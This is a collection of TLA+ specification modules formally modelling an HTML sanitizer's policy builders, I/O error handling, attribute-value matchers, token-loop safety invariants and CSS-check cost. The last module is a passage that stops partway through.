RequireSandbox(p, vals) == [p EXCEPT !.sandboxOn = TRUE, !.sandbox = SandboxSet(vals)]

SkipContent(p0, names)  == LET p == InitP(p0) IN [p EXCEPT !.skip = @ \cup LowerSet(names)]
AllowContent(p0, names) == LET p == InitP(p0) IN [p EXCEPT !.skip = @ \ LowerSet(names)]

---------------------------------------------------------------------------
\* helpers (policies.go / helpers.go) as macros over the calls above

AA(attrs, match, els) ==
  [m |-> "AllowAttrs", attrs |-> attrs, match |-> match, noattrs |-> FALSE,
   scope |-> IF els = <<>> THEN "glob" ELSE "els", els |-> els, pat |-> ""]

RECURSIVE ApplySeq(_, _)

AllowStandardURLs(p) ==
  LET p1 == [p  EXCEPT !.parseable = TRUE]
      p2 == [p1 EXCEPT !.relative = TRUE]
      p3 == AllowURLSchemes(p2, <<"mailto", "http", "https">>)
  IN  [p3 EXCEPT !.nofollow = TRUE]

AllowStandardAttributes(p) ==
  ApplySeq(p, << AA(<<"dir">>, Vocab.re.Direction, <<>>),
                 AA(<<"lang">>, Vocab.re.lang, <<>>),
                 AA(<<"id">>, Vocab.re.id, <<>>),
                 AA(<<"title">>, Vocab.re.Paragraph, <<>>) >>)

AllowStyling(p) == ApplySeq(p, << AA(<<"class">>, Vocab.re.SpaceSeparatedTokens, <<>>) >>)

AllowImages(p) ==
  LET p1 == ApplySeq(p, << AA(<<"align">>, Vocab.re.ImageAlign, <<"img">>),
                           AA(<<"alt">>, Vocab.re.Paragraph, <<"img">>),
                           AA(<<"height", "width">>, Vocab.re.NumberOrPercent, <<"img">>) >>)
      p2 == AllowStandardURLs(p1)
  IN  ApplySeq(p2, << AA(<<"src">>, "", <<"img">>) >>)

AllowDataURIImages(p) ==
  AllowURLSchemeWithCustomPolicy([p EXCEPT !.parseable = TRUE], "data", Vocab.dataURIImagesFunc)

AllowLists(p) ==
  AllowElements(
    ApplySeq(p, << AA(<<"type">>, Vocab.re.ListType, <<"ol", "ul">>),
                   AA(<<"type">>, Vocab.re.ListType, <<"li">>),
                   AA(<<"value">>, Vocab.re.Integer, <<"li">>) >>),
    <<"dl", "dt", "dd">>)

AllowTables(p) ==
  LET p1 == ApplySeq(p, << AA(<<"height", "width">>, Vocab.re.NumberOrPercent, <<"table">>),
                           AA(<<"summary">>, Vocab.re.Paragraph, <<"table">>) >>)
      p2 == AllowElements(p1, <<"caption">>)
  IN  ApplySeq(p2, <<
        AA(<<"align">>, Vocab.re.CellAlign, <<"col", "colgroup">>),
        AA(<<"height", "width">>, Vocab.re.NumberOrPercent, <<"col", "colgroup">>),
        AA(<<"span">>, Vocab.re.Integer, <<"colgroup", "col">>),
        AA(<<"valign">>, Vocab.re.CellVerticalAlign, <<"col", "colgroup">>),
        AA(<<"align">>, Vocab.re.CellAlign, <<"thead", "tr">>),
        AA(<<"valign">>, Vocab.re.CellVerticalAlign, <<"thead", "tr">>),
        AA(<<"abbr">>, Vocab.re.Paragraph, <<"td", "th">>),
        AA(<<"align">>, Vocab.re.CellAlign, <<"td", "th">>),
        AA(<<"colspan", "rowspan">>, Vocab.re.Integer, <<"td", "th">>),
        AA(<<"headers">>, Vocab.re.SpaceSeparatedTokens, <<"td", "th">>),
        AA(<<"height", "width">>, Vocab.re.NumberOrPercent, <<"td", "th">>),
        AA(<<"scope">>, Vocab.re.scope, <<"td", "th">>),
        AA(<<"valign">>, Vocab.re.CellVerticalAlign, <<"td", "th">>),
        AA(<<"nowrap">>, Vocab.re.nowrap, <<"td", "th">>),
        AA(<<"align">>, Vocab.re.CellAlign, <<"tbody", "tfoot">>),
        AA(<<"valign">>, Vocab.re.CellVerticalAlign, <<"tbody", "tfoot">>) >>)

AllowIFrames(p, vals) ==
  RequireSandbox(ApplySeq(p, << AA(<<"sandbox">>, "", <<"iframe">>) >>), vals)

---------------------------------------------------------------------------
Apply(c, p) ==
  CASE c.m = "NewPolicy"     -> New
    [] c.m = "StrictPolicy"  -> New
    [] c.m = "UGCPolicy"     -> UGC
    [] c.m = "ZeroValue"     -> Blank
    [] c.m = "AllowAttrs"    -> AllowAttrs(p, c)
    [] c.m = "AllowStyles"   -> AllowStyles(p, c)
    [] c.m = "AllowElements" -> AllowElements(p, c.names)
    [] c.m = "AllowElementsMatching" -> AllowElementsMatching(p, c.pat)
    [] c.m = "AllowURLSchemes" -> AllowURLSchemes(p, c.schemes)
    [] c.m = "AllowURLSchemeWithCustomPolicy" -> AllowURLSchemeWithCustomPolicy(p, c.scheme, c.fid)
    [] c.m = "AllowURLSchemesMatching" -> [InitP(p) EXCEPT !.schemePats = @ \cup {c.pat}]
    [] c.m = "RewriteSrc" -> [p EXCEPT !.rewriter = c.fid]
    [] c.m = "RequireNoFollowOnLinks" -> [p EXCEPT !.nofollow = c.b, !.parseable = TRUE]
    [] c.m = "RequireNoFollowOnFullyQualifiedLinks" -> [p EXCEPT !.nofollowFQ = c.b, !.parseable = TRUE]
    [] c.m = "RequireNoReferrerOnLinks" -> [p EXCEPT !.noreferrer = c.b, !.parseable = TRUE]
    [] c.m = "RequireNoReferrerOnFullyQualifiedLinks" -> [p EXCEPT !.noreferrerFQ = c.b, !.parseable = TRUE]
    [] c.m = "AddTargetBlankToFullyQualifiedLinks" -> [p EXCEPT !.targetBlank = c.b, !.parseable = TRUE]
    [] c.m = "RequireCrossOriginAnonymous" -> [p EXCEPT !.crossorigin = c.b]
    [] c.m = "RequireParseableURLs" -> [p EXCEPT !.parseable = c.b]
    [] c.m = "AllowRelativeURLs" -> [p EXCEPT !.parseable = TRUE, !.relative = c.b]
    [] c.m = "RequireSandboxOnIFrame" -> RequireSandbox(p, c.vals)
    [] c.m = "AllowIFrames" -> AllowIFrames(p, c.vals)
    [] c.m = "AddSpaceWhenStrippingTag" -> [p EXCEPT !.addSpaces = c.b]
    [] c.m = "SkipElementsContent" -> SkipContent(p, c.names)
    [] c.m = "AllowElementsContent" -> AllowContent(p, c.names)
    [] c.m = "AllowDataAttributes" -> [p EXCEPT !.dataAttrs = TRUE]
    [] c.m = "AllowComments" -> [p EXCEPT !.comments = TRUE]
    [] c.m = "AllowUnsafe" -> [InitP(p) EXCEPT !.unsafe = c.b]
    [] c.m = "AllowStandardURLs" -> AllowStandardURLs(p)
    [] c.m = "AllowStandardAttributes" -> AllowStandardAttributes(p)
    [] c.m = "AllowStyling" -> AllowStyling(p)
    [] c.m = "AllowImages" -> AllowImages(p)
    [] c.m = "AllowDataURIImages" -> AllowDataURIImages(p)
    [] c.m = "AllowLists" -> AllowLists(p)
    [] c.m = "AllowTables" -> AllowTables(p)
    [] c.m = "LazyInit" -> InitP(p)            \* what the first Sanitize* does to a zero-value policy

ApplySeq(p, cs) == IF cs = <<>> THEN p ELSE ApplySeq(Apply(Head(cs), p), Tail(cs))

\* the policy a recipe (sequence of calls starting with a constructor) builds
Build(recipe) == ApplySeq(Blank, recipe)

---------------------------------------------------------------------------
\* classification of calls, for the properties of C17
RuleCalls   == {"AllowAttrs", "AllowStyles", "AllowElements", "AllowElementsMatching",
                "AllowURLSchemesMatching", "AllowStandardAttributes", "AllowStyling",
                "AllowLists", "AllowTables"}
IsRuleCall(c) == c.m \in RuleCalls

\* p is below q in every rule table (rule calls only ever add)
TblLeq2(a, b) == \A k \in DOMAIN a : k \in DOMAIN b /\ \A n \in DOMAIN a[k] : n \in DOMAIN b[k] /\ a[k][n] \subseteq b[k][n]
TblLeq1(a, b) == \A k \in DOMAIN a : k \in DOMAIN b /\ a[k] \subseteq b[k]
ASSUME TLCSet(45, PolOfJson(JsonDeserialize("ugc_vocabulary.json")))
ASSUME TLCGet(45) = TLCGet(45)   \* deep-normalises the shared value before the workers start

RulesLeq(p, q) ==
  /\ TblLeq2(p.elAttrs, q.elAttrs) /\ TblLeq2(p.patAttrs, q.patAttrs) /\ TblLeq1(p.globalAttrs, q.globalAttrs)
  /\ TblLeq2(p.elStyles, q.elStyles) /\ TblLeq2(p.patStyles, q.patStyles) /\ TblLeq1(p.globalStyles, q.globalStyles)
  /\ p.bareEl \subseteq q.bareEl /\ p.barePat \subseteq q.barePat /\ p.schemePats \subseteq q.schemePats
=============================================================================
