-------------------------------- MODULE BM_IO --------------------------------
(***************************************************************************)
(* One Sanitize* call with its environment: which entry point, how the     *)
(* source reader delivers the input and whether it fails, what kind of     *)
(* destination receives the output and whether one of its writes fails.    *)
(*                                                                         *)
(* The input is a token sequence (what html.Tokenizer reads from the bytes *)
(* — chunk-independence of the tokenizer is part of what the specification *)
(* states: the tokens depend on the bytes only, not on how Read splits     *)
(* them).  The loop performs at most one WriteString per token.            *)
(*                                                                         *)
(* env == [entry, wkind, failAt, failMode, rfail, blank]                   *)
(*   entry    "Sanitize" | "SanitizeBytes" | "SanitizeReader" |            *)
(*            "SanitizeReaderToWriter"                                     *)
(*   wkind    "string" (destination implements WriteString) | "plain"      *)
(*   failAt   index of the write that fails (0 = none)                     *)
(*   failMode "transient" (only that write fails) | "permanent"            *)
(*   rfail    number of tokens the reader delivers before failing with a   *)
(*            non-EOF error (-1 = the reader ends with io.EOF)             *)
(*   blank    the input is whitespace only                                 *)
(***************************************************************************)
EXTENDS BM_Props

Entries == {"Sanitize", "SanitizeBytes", "SanitizeReader", "SanitizeReaderToWriter"}
OwnsBuffer(entry) == entry # "SanitizeReaderToWriter"     \* these entry points write into their own bytes.Buffer

VARIABLES pol, toks, env,
          pos,        \* tokens consumed
          st,         \* loop state
          writes,     \* sequence of [tok, ok]: every WriteString the loop performed, with its result
          status      \* "run" | "blank" | "ok" | "werr" | "rerr"
iovars == <<pol, toks, env, pos, st, writes, status>>

IOInit(p, ts, e) ==
  /\ pol = InitP(p)                      \* every entry point initialises a zero-value policy (except on the blank short cut)
  /\ toks = ts /\ env = e /\ pos = 0 /\ st = St0 /\ writes = <<>>
  /\ status = IF e.blank /\ e.entry \in {"Sanitize", "SanitizeBytes"} THEN "blank" ELSE "run"

NWrites == Len(writes)
WriteFails(k) == env.failAt # 0 /\ (k = env.failAt \/ (env.failMode = "permanent" /\ k > env.failAt))

\* the reader has nothing more: io.EOF
AtEOF == pos = Len(toks) /\ env.rfail < 0
\* the reader fails with a non-EOF error after delivering rfail tokens
ReaderFailsNow == env.rfail >= 0 /\ pos = env.rfail

FeedNext ==
  /\ status = "run" /\ pos < Len(toks) /\ ~ReaderFailsNow
  /\ LET tok == toks[pos + 1]
         e   == Emitted(pol, st, tok)        \* at most one write
     IN  /\ pos' = pos + 1
         /\ st' = Step(pol, st, tok)
         /\ IF e = <<>> THEN UNCHANGED <<writes, status>>
            ELSE IF WriteFails(NWrites + 1)
                 THEN writes' = Append(writes, [tok |-> e[1], ok |-> FALSE]) /\ status' = "werr"   \* the error is returned at once
                 ELSE writes' = Append(writes, [tok |-> e[1], ok |-> TRUE]) /\ UNCHANGED status
  /\ UNCHANGED <<pol, toks, env>>

ReadEOF  == status = "run" /\ AtEOF /\ status' = "ok" /\ UNCHANGED <<pol, toks, env, pos, st, writes>>
ReadFail == status = "run" /\ ReaderFailsNow /\ status' = "rerr" /\ UNCHANGED <<pol, toks, env, pos, st, writes>>

IONext == FeedNext \/ ReadEOF \/ ReadFail

Done == status # "run"

\* what the destination accepted
Accepted == LET ok == SelectSeq(writes, LAMBDA w : w.ok) IN [k \in DOMAIN ok |-> ok[k].tok]

\* ---- what the caller observes ------------------------------------------------------------
ReturnsError == status \in {"werr", "rerr"}                 \* SanitizeReaderToWriter's error result
\* the own-buffer entry points return the buffer, or an empty one when the loop reported an error
Returned == CASE status = "blank" -> "input-unchanged"
              [] status = "ok"    -> "output"
              [] OTHER            -> "empty"

\* ---- properties (C15, C16) ------------------------------------------------------------------
IsPrefix(a, b) == Len(a) <= Len(b) /\ SubSeq(b, 1, Len(a)) = a

\* all entry points, chunkings and writer kinds produce Run(pol, toks) when nothing fails
EntryAgree == status = "ok" => Accepted = Run(pol, toks)

\* whatever happens, what was accepted is a prefix of the fault-free output
PrefixOfFaultFree == IsPrefix(Accepted, Run(pol, toks))

\* a failed write is the last write
FailIsLast == \A k \in DOMAIN writes : ~writes[k].ok => k = Len(writes)
AfterFailNoWrite == [][status = "werr" => writes' = writes]_iovars

\* failures are reported
FailReported == /\ (\E k \in DOMAIN writes : ~writes[k].ok) => (Done => ReturnsError)
                /\ status = "rerr" => ReturnsError /\ Returned = "empty"
                /\ status = "ok" => ~ReturnsError
=============================================================================
