----------------------------- MODULE BM_Matchers -----------------------------
(***************************************************************************)
(* The eleven exported attribute value patterns as their DOCUMENTED FORMS:  *)
(* recognisers over sequences of one-character strings, written from the    *)
(* doc comments of helpers.go (not from the regular expressions).  A string  *)
(* is a sequence of characters; "characters" here are one-character strings. *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

Digit  == {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
Lower  == {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z"}
Upper  == {"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z"}
OtherLetter == {"LETTER-E-ACUTE", "LETTER-CJK"}           \* stand-ins for non-ASCII letters (the harness maps them to e-acute and a CJK ideograph)
OtherNumber == {"NUMBER-ARABIC-INDIC-3"}                  \* a non-ASCII digit (Unicode category N)
Letter == Lower \cup Upper \cup OtherLetter
Number_ == Digit \cup OtherNumber
White  == {" ", "TAB", "LF", "FF", "CR"}                 \* the harness maps the names to the control characters

LowerCh(c) == CASE c = "A" -> "a" [] c = "B" -> "b" [] c = "C" -> "c" [] c = "D" -> "d" [] c = "E" -> "e" [] c = "F" -> "f"
                [] c = "G" -> "g" [] c = "H" -> "h" [] c = "I" -> "i" [] c = "J" -> "j" [] c = "K" -> "k" [] c = "L" -> "l"
                [] c = "M" -> "m" [] c = "N" -> "n" [] c = "O" -> "o" [] c = "P" -> "p" [] c = "Q" -> "q" [] c = "R" -> "r"
                [] c = "S" -> "s" [] c = "T" -> "t" [] c = "U" -> "u" [] c = "V" -> "v" [] c = "W" -> "w" [] c = "X" -> "x"
                [] c = "Y" -> "y" [] c = "Z" -> "z" [] OTHER -> c
LowerSeq(s) == [i \in DOMAIN s |-> LowerCh(s[i])]

\* a keyword is written here as a sequence of characters
Chars(w) == w     \* keywords are given as tuples of characters below
KW(words, s) == LowerSeq(s) \in words

CellAlignWords == {<<"c","e","n","t","e","r">>, <<"j","u","s","t","i","f","y">>, <<"l","e","f","t">>, <<"r","i","g","h","t">>, <<"c","h","a","r">>}
CellVAlignWords == {<<"b","a","s","e","l","i","n","e">>, <<"b","o","t","t","o","m">>, <<"m","i","d","d","l","e">>, <<"t","o","p">>}
DirectionWords == {<<"r","t","l">>, <<"l","t","r">>}
ImageAlignWords == {<<"l","e","f","t">>, <<"r","i","g","h","t">>, <<"t","o","p">>, <<"t","e","x","t","t","o","p">>, <<"m","i","d","d","l","e">>,
                    <<"a","b","s","m","i","d","d","l","e">>, <<"b","a","s","e","l","i","n","e">>, <<"b","o","t","t","o","m">>,
                    <<"a","b","s","b","o","t","t","o","m">>}
ListTypeWords == {<<"c","i","r","c","l","e">>, <<"d","i","s","c">>, <<"s","q","u","a","r","e">>, <<"a">>, <<"i">>, <<"1">>}

AllIn(s, S) == \A i \in DOMAIN s : s[i] \in S

\* first index >= i that does not hold a digit
RECURSIVE DigitsEnd(_, _)
DigitsEnd(s, i) == IF i <= Len(s) /\ s[i] \in Digit THEN DigitsEnd(s, i + 1) ELSE i
At(s, i, S) == i <= Len(s) /\ s[i] \in S
\* exactly k digits at i
KDigits(s, i, k) == i + k - 1 <= Len(s) /\ \A j \in i..(i + k - 1) : s[j] \in Digit

IntegerForm(s) == Len(s) >= 1 /\ AllIn(s, Digit)

NumberOrPercentForm(s) == LET e == DigitsEnd(s, 1)
                          IN  e > 1 /\ (e = Len(s) + 1 \/ (e = Len(s) /\ s[e] = "%"))

\* a double: sign? (digits+ | digits* "." digits+) ((e|E) sign? digits+)?
NumberForm(s) ==
  LET i1 == IF At(s, 1, {"+", "-"}) THEN 2 ELSE 1
      i2 == DigitsEnd(s, i1)
      dot == At(s, i2, {"."})
      i4 == IF dot THEN DigitsEnd(s, i2 + 1) ELSE i2
      mant == IF dot THEN i4 > i2 + 1 ELSE i2 > i1
      hasE == At(s, i4, {"e", "E"})
      j  == IF At(s, i4 + 1, {"+", "-"}) THEN i4 + 2 ELSE i4 + 1
      k  == DigitsEnd(s, j)
  IN  mant /\ IF hasE THEN k > j /\ k = Len(s) + 1 ELSE i4 = Len(s) + 1

\* YYYY[-MM[-DD[(T| )hh:mm[:ss][.f{1,6}][Z][(+|-)hh:mm]]]]
ISO8601Form(s) ==
  /\ KDigits(s, 1, 4)
  /\ \/ Len(s) = 4
     \/ /\ At(s, 5, {"-"}) /\ KDigits(s, 6, 2)
        /\ \/ Len(s) = 7
           \/ /\ At(s, 8, {"-"}) /\ KDigits(s, 9, 2)
              /\ \/ Len(s) = 10
                 \/ /\ At(s, 11, {"T", " "}) /\ KDigits(s, 12, 2) /\ At(s, 14, {":"}) /\ KDigits(s, 15, 2)
                    /\ LET a == IF At(s, 17, {":"}) /\ KDigits(s, 18, 2) THEN 20 ELSE 17        \* after optional :ss
                           fe == IF At(s, a, {"."}) THEN DigitsEnd(s, a + 1) ELSE a
                           fracOK == At(s, a, {"."}) => (fe - (a + 1) >= 1 /\ fe - (a + 1) <= 6)
                           b == IF At(s, fe, {"Z"}) THEN fe + 1 ELSE fe                        \* after optional Z
                           offOK == b = Len(s) + 1
                                    \/ (At(s, b, {"+", "-"}) /\ KDigits(s, b + 1, 2) /\ At(s, b + 3, {":"}) /\ KDigits(s, b + 4, 2) /\ b + 5 = Len(s))
                       IN  fracOK /\ offOK

TokensAlphabet == Letter \cup Number_ \cup White \cup {"_", "-"}
SpaceSeparatedTokensForm(s) == Len(s) >= 1 /\ AllIn(s, TokensAlphabet)

ParagraphAlphabet == Letter \cup Number_ \cup White \cup {"-", "_", "'", ",", "[", "]", "!", ".", "/", "BACKSLASH", "(", ")"}
ParagraphForm(s) == AllIn(s, ParagraphAlphabet)

Matchers == {"CellAlign", "CellVerticalAlign", "Direction", "ImageAlign", "Integer", "ISO8601", "ListType",
             "SpaceSeparatedTokens", "Number", "NumberOrPercent", "Paragraph"}

DocForm(m, s) ==
  CASE m = "CellAlign" -> KW(CellAlignWords, s)
    [] m = "CellVerticalAlign" -> KW(CellVAlignWords, s)
    [] m = "Direction" -> KW(DirectionWords, s)
    [] m = "ImageAlign" -> KW(ImageAlignWords, s)
    [] m = "ListType" -> KW(ListTypeWords, s)
    [] m = "Integer" -> IntegerForm(s)
    [] m = "ISO8601" -> ISO8601Form(s)
    [] m = "SpaceSeparatedTokens" -> SpaceSeparatedTokensForm(s)
    [] m = "Number" -> NumberForm(s)
    [] m = "NumberOrPercent" -> NumberOrPercentForm(s)
    [] m = "Paragraph" -> ParagraphForm(s)

\* the documented alphabet of each matcher: a string in documented form uses no other character
DocAlphabet(m) ==
  CASE m \in {"CellAlign", "CellVerticalAlign", "Direction", "ImageAlign"} -> Lower \cup Upper
    [] m = "ListType" -> Lower \cup Upper \cup {"1"}
    [] m = "Integer" -> Digit
    [] m = "ISO8601" -> Digit \cup {"-", ":", "T", " ", ".", "Z", "+"}
    [] m = "SpaceSeparatedTokens" -> TokensAlphabet
    [] m = "Number" -> Digit \cup {"+", "-", ".", "e", "E"}
    [] m = "NumberOrPercent" -> Digit \cup {"%"}
    [] m = "Paragraph" -> ParagraphAlphabet

\* HTML-significant and control characters: never part of any documented alphabet
Hostile == {"<", ">", "QUOTE", "=", "`", "&", "CTRL-1", "NUL", ";"}

\* closure of the documented forms: whatever is in documented form uses only the documented alphabet
Closed(m, s) == DocForm(m, s) => AllIn(s, DocAlphabet(m))
=============================================================================
