------------------------------- MODULE SanInd -------------------------------
(***************************************************************************)
(* The token loop once more, typed for Apalache, with the attribute        *)
(* pipeline abstracted to its outcome (a tag has no attributes / some      *)
(* survive / it had some and none survive) and the policy abstracted to    *)
(* five sets of names and three switches.  The sets and switches are       *)
(* CONSTANTS constrained only by ConstInit, so the inductive check below   *)
(* covers EVERY policy over the name universe, every loop state (any       *)
(* counter value, any stack up to the generated depth) and hence inputs of *)
(* any length and nesting:                                                 *)
(*                                                                         *)
(*   apalache-mc check --cinit=ConstInit --init=IndInit --inv=IndInv --length=1 SanInd.tla  *)
(*   apalache-mc check --cinit=ConstInit --init=Init    --inv=IndInv --length=0 SanInd.tla  *)
(*                                                                         *)
(* The actions are the branches of BM_Sanitize.tla (same names); `emitted` *)
(* is what the step writes.  IndInv is the per-step form of I01, I05 and   *)
(* the bare clause of I02 together with the structural stack invariant.    *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Apalache

\* @typeAlias: tok = {t: Str, n: Str, a: Str};
\* @typeAlias: ent = {n: Str, kept: Bool};
SanInd_aliases == TRUE

Names == {"b", "a", "img", "frame", "cx", "blink", "object", "script", "style"}
Voids == {"img", "frame"}
Unsafe == {"script", "style"}

CONSTANTS
  \* @type: Set(Str);
  ExplicitSet,      \* explicitly allowed elements
  \* @type: Set(Str);
  PatMatched,    \* names matched by some element pattern
  \* @type: Set(Str);
  BareSet,        \* may be emitted without attributes
  \* @type: Set(Str);
  SkipSet,       \* skip-content set
  \* @type: Bool;
  AllowUnsafe,
  \* @type: Bool;
  AddSpaces,
  \* @type: Bool;
  AllowComments

ConstInit ==
  /\ ExplicitSet \in SUBSET Names /\ PatMatched \in SUBSET Names /\ BareSet \in SUBSET Names /\ SkipSet \in SUBSET Names
  /\ AllowUnsafe \in BOOLEAN /\ AddSpaces \in BOOLEAN /\ AllowComments \in BOOLEAN

VARIABLES
  \* @type: Bool;
  skip,
  \* @type: Int;
  cnt,
  \* @type: Seq($ent);
  stack,
  \* @type: Str;
  mrst,
  \* @type: Bool;
  mkept,    \* the tag that set mrst was written
  \* @type: Seq($tok);
  emitted

Known(n) == n \in ExplicitSet \/ n \in PatMatched
Blocked(n) == n \in Unsafe /\ ~AllowUnsafe

\* @type: Set($tok);
Alphabet == [t : {"start", "self"}, n : Names, a : {"none", "keep", "zero"}]
            \cup [t : {"end"}, n : Names, a : {"none"}]
            \cup [t : {"text", "comment", "doctype"}, n : {""}, a : {"none"}]

\* @type: Seq($tok);
SpaceIf == IF AddSpaces THEN <<[t |-> "space", n |-> "", a |-> "none"]>> ELSE <<>>
\* @type: ($tok) => $tok;
Clean(tok) == [tok EXCEPT !.a = IF tok.a = "zero" THEN "none" ELSE tok.a]
\* @type: ($tok) => Seq($tok);
Show(tok) == IF skip THEN <<>> ELSE <<tok>>

TopIs(n, k) == Len(stack) > 0 /\ stack[Len(stack)].n = n /\ stack[Len(stack)].kept = k
TopNamed(n) == Len(stack) > 0 /\ stack[Len(stack)].n = n
Pop == SubSeq(stack, 1, Len(stack) - 1)

\* @type: ($tok) => Bool;
StartTag(tok) ==
  /\ tok.t = "start" /\ mrst' = tok.n
  /\ mkept' = (~Blocked(tok.n) /\ Known(tok.n) /\ ~(tok.a \in {"none", "zero"} /\ tok.n \notin BareSet) /\ ~skip)
  /\ IF Blocked(tok.n) THEN UNCHANGED <<skip, cnt, stack>> /\ emitted' = <<>>                       \* StartBlocked
     ELSE IF ~Known(tok.n) THEN
            /\ IF tok.n \in SkipSet /\ tok.n \notin Voids THEN skip' = TRUE /\ cnt' = cnt + 1        \* StartUnknownSkip
               ELSE UNCHANGED <<skip, cnt>>                                                           \* StartUnknown
            /\ UNCHANGED stack /\ emitted' = SpaceIf
     ELSE IF tok.a \in {"none", "zero"} /\ tok.n \notin BareSet THEN
            /\ stack' = IF tok.n \in Voids THEN stack ELSE Append(stack, [n |-> tok.n, kept |-> FALSE])  \* StartBareVoid / StartBareDropped
            /\ UNCHANGED <<skip, cnt>> /\ emitted' = SpaceIf
     ELSE /\ stack' = IF TopNamed(tok.n) THEN Append(stack, [n |-> tok.n, kept |-> TRUE]) ELSE stack      \* StartKept / StartHidden
          /\ UNCHANGED <<skip, cnt>> /\ emitted' = Show(Clean(tok))

\* @type: ($tok) => Bool;
EndTag(tok) ==
  /\ tok.t = "end" /\ mrst' = (IF mrst = tok.n THEN "" ELSE mrst) /\ UNCHANGED mkept
  /\ IF Blocked(tok.n) THEN UNCHANGED <<skip, cnt, stack>> /\ emitted' = <<>>                        \* EndBlocked
     ELSE IF TopIs(tok.n, FALSE) THEN stack' = Pop /\ UNCHANGED <<skip, cnt>> /\ emitted' = SpaceIf   \* EndPopsDropped
     ELSE /\ stack' = IF TopIs(tok.n, TRUE) THEN Pop ELSE stack                                       \* marker removed
          /\ IF ~Known(tok.n)
             THEN /\ IF tok.n \in SkipSet /\ tok.n \notin Voids
                     THEN cnt' = cnt - 1 /\ skip' = IF cnt - 1 = 0 THEN FALSE ELSE skip               \* EndUnknownSkip
                     ELSE UNCHANGED <<skip, cnt>>                                                     \* EndUnknown
                  /\ emitted' = SpaceIf
             ELSE UNCHANGED <<skip, cnt>> /\ emitted' = Show(tok)                                     \* EndKept / EndHidden

\* @type: ($tok) => Bool;
SelfTag(tok) ==
  /\ tok.t = "self" /\ mrst' = tok.n /\ UNCHANGED <<skip, cnt, stack>>
  /\ mkept' = (~Blocked(tok.n) /\ Known(tok.n) /\ ~(tok.a \in {"none", "zero"} /\ tok.n \notin BareSet) /\ ~skip)
  /\ IF Blocked(tok.n) THEN emitted' = <<>>
     ELSE IF ~Known(tok.n) THEN emitted' = SpaceIf
     ELSE IF tok.a \in {"none", "zero"} /\ tok.n \notin BareSet THEN emitted' = SpaceIf
     ELSE emitted' = Show(Clean(tok))

\* @type: ($tok) => Bool;
Text(tok) ==
  /\ tok.t = "text" /\ UNCHANGED <<skip, cnt, stack, mrst, mkept>>
  /\ emitted' = IF skip THEN <<>>
                ELSE IF mrst \in Unsafe THEN (IF ~AllowUnsafe THEN <<>>
                                              ELSE IF mkept THEN <<[tok EXCEPT !.t = "raw"]>> ELSE <<tok>>)
                ELSE <<tok>>

\* @type: ($tok) => Bool;
Comment(tok) == /\ tok.t = "comment" /\ UNCHANGED <<skip, cnt, stack, mrst, mkept>>
                /\ emitted' = IF AllowComments /\ ~skip THEN <<tok>> ELSE <<>>
\* @type: ($tok) => Bool;
Doctype(tok) == tok.t = "doctype" /\ UNCHANGED <<skip, cnt, stack, mrst, mkept>> /\ emitted' = <<>>

Next == \E tok \in Alphabet : StartTag(tok) \/ EndTag(tok) \/ SelfTag(tok) \/ Text(tok) \/ Comment(tok) \/ Doctype(tok)
Init == skip = FALSE /\ cnt = 0 /\ stack = <<>> /\ mrst = "" /\ mkept = FALSE /\ emitted = <<>>

\* whatever a step writes: only allowed elements, comments only when allowed, never a doctype, no script/style and no
\* raw text unless AllowUnsafe, and never a bare tag of an element that needs attributes  (I01, I05, I02bare per step)
EmittedOK == \A i \in DOMAIN emitted :
   /\ emitted[i].t \in {"start", "end", "self"} => Known(emitted[i].n)
   /\ emitted[i].t = "comment" => AllowComments
   /\ emitted[i].t # "doctype"
   /\ ~AllowUnsafe => (emitted[i].n \notin Unsafe /\ emitted[i].t # "raw")
   /\ (emitted[i].t \in {"start", "self"} /\ emitted[i].a = "none") => emitted[i].n \in BareSet
\* the remembered start tags: dropped entries are known, never-bare, non-void elements; markers are known elements
StackOK == \A i \in DOMAIN stack :
   /\ Known(stack[i].n)
   /\ ~stack[i].kept => (stack[i].n \notin BareSet /\ stack[i].n \notin Voids)
IndInv == EmittedOK /\ StackOK

IndInit ==
  /\ skip \in BOOLEAN /\ cnt \in Int /\ stack = Gen(3) /\ mrst \in Names \cup {""} /\ mkept \in BOOLEAN /\ emitted = Gen(1)
  /\ IndInv
=============================================================================
