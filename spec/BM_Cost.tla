------------------------------- MODULE BM_Cost -------------------------------
(***************************************************************************)
(* css.recursiveCheck(value, funcs) as a counted algorithm.  It decides     *)
(* whether the space-separated tokens 1..n of a shorthand CSS value can be  *)
(* split into consecutive groups each accepted by one of the handlers.      *)
(* The handlers are abstracted to an arbitrary verdict matrix               *)
(*     A[<<i, j, f>>]  =  handler f accepts tokens i..j joined by a space   *)
(* so the properties hold for every possible set of handlers.               *)
(*                                                                          *)
(* RC is the algorithm the code implements (forward reachability over split *)
(* positions, handlers tried in order, a position is tried once).  It       *)
(* returns the verdict and the number of handler invocations.               *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

Triples(n, nf) == {t \in (1..n) \X (1..n) \X (1..nf) : t[1] <= t[2]}

\* first handler (in order) that accepts tokens i..j, 0 if none; and how many were invoked
RECURSIVE TryFuncs(_, _, _, _, _)
TryFuncs(A, i, j, f, nf) ==
  IF f > nf THEN [hit |-> FALSE, calls |-> nf]
  ELSE IF A[<<i, j, f>>] THEN [hit |-> TRUE, calls |-> f]
  ELSE TryFuncs(A, i, j, f + 1, nf)

\* inner loop: from reachable position i (tokens 1..i consumed) try every end k > i not yet reachable
RECURSIVE Extend(_, _, _, _, _, _, _)
Extend(A, n, nf, i, k, reach, calls) ==
  IF k > n THEN [reach |-> reach, calls |-> calls]
  ELSE IF k \in reach THEN Extend(A, n, nf, i, k + 1, reach, calls)
  ELSE LET t == TryFuncs(A, i + 1, k, 1, nf)
       IN  Extend(A, n, nf, i, k + 1, IF t.hit THEN reach \cup {k} ELSE reach, calls + t.calls)

\* outer loop over positions 0..n-1
RECURSIVE Sweep(_, _, _, _, _, _)
Sweep(A, n, nf, i, reach, calls) ==
  IF i >= n THEN [reach |-> reach, calls |-> calls]
  ELSE IF i \notin reach THEN Sweep(A, n, nf, i + 1, reach, calls)
  ELSE LET e == Extend(A, n, nf, i, i + 1, reach, calls)
